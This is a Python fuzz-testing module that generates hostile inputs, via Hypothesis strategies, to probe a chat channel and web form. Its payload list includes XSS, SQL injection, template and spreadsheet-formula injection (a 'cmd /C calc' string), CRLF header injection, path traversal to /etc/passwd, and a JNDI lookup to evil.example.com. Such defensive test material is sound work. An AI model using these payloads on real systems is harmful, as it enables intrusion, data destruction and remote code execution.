"""Inputs that nobody means well with, for the channel and for the form.

`BAD_INPUTS=10000` makes as many for each of the two, others each time; without it some thousands go
within minutes, the same each time.
"""

from __future__ import annotations

import os

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

ASKED_FOR = os.environ.get("BAD_INPUTS")
INPUTS = int(ASKED_FOR or "2000")
HANGS_AFTER_SECONDS = 30
MARK = "kwikstaart7391"  # in all that is typed here, and in nothing else
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[link](javascript:alert(1)) **bold** ![](https://evil.example.com/x)",
    "{{7*7}} ${7*7} #{7*7} {% raw %} %s %n {0} {language} <%= 7 %>",
    "'; DROP TABLE events; -- \" OR 1=1 /*",
    "=HYPERLINK('https://evil.example.com') +1 -1 @SUM(1) \t=cmd|' /C calc'!A0",
    "\r\n2026-11-25 ERROR root: all is lost \x1b[31m",
    "x\r\nBcc: everybody@example.com\r\n\r\nbody",
    "\u202etxt.exe\u2066 \u200f\u061c",
    "\x00\x01\x7f\u0085\u2028\u2029",
    "😀👨‍👩‍👧🏴󠁧󠁢󠁥󠁮󠁧󠁿" * 20,
    "Z" + "̴͎̀" * 600,
    "../../../../etc/passwd file:///etc/passwd ${jndi:ldap://evil.example.com}",
    "４８２０１９３７７６ ٤٨٢٠ 〇一二三",
    "² ×² x ① ½ Ⅷ ₂ ⑴ 🄂",
    "/restart /affirm /session_start /cancel_subscription{}",
    '/give_details{"account_id": "4820193776"}',
    "a" * 1_000_000,
    "9" * 1999,
    "1 " * 900,
    "@" * 1500,
    "a@b." * 400,
]

texts = st.one_of(st.sampled_from(HOSTILE), st.text(max_size=300)).map(lambda text: MARK + text)
headers = st.dictionaries(
    st.sampled_from(
        ["Accept-Language", "Content-Type", "X-Forwarded-For", "Cookie", "Accept", "Range", "X-A"]
    ),
    st.text(st.characters(min_codepoint=32, max_codepoint=126), max_size=2000).map(str.strip),
    max_size=3,
)
methods = st.sampled_from(["GET", "PUT", "PATCH", "HEAD", "OPTIONS", "TRACE", "POST", "PROPFIND"])
segments = st.text(st.characters(min_codepoint=33, max_codepoint=0x2FF), max_size=60)


def share(divisor: int) -> settings:
    """So many of all inputs; a part of them costs a whole turn each."""
    return settings(
        max_examples=INPUTS // divisor,
        deadline=None,
        database=None,
        derandomize=ASKED_FOR is None,
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    )
